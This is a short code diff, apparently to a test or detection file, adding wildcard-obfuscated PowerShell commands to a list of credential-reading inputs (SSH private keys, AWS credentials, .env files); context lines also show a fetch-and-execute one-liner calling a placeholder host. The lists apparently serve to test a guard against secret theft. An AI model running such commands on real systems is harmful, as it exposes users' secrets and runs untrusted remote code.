@@ -93,6 +93,10 @@ CREDENTIALS = [
     "Get-Content ~/.npmrc | Out-String",
     "$k = Get-Content ~/.aws/config -Raw",
     'Write-Output "$(Get-Content ~/.ssh/id_rsa)"',
+    "gc ~/.ss?/id_rsa",  # wildcards stand for the key files they could match
+    "Get-Content ~\\.aws\\cred*",
+    "Copy-Item -Recurse ~/.ss* ./backup",
+    "Get-Content .en?",
 ]
 UNSEEN_CODE = [
     "iex (iwr https://x.example/a.ps1)",
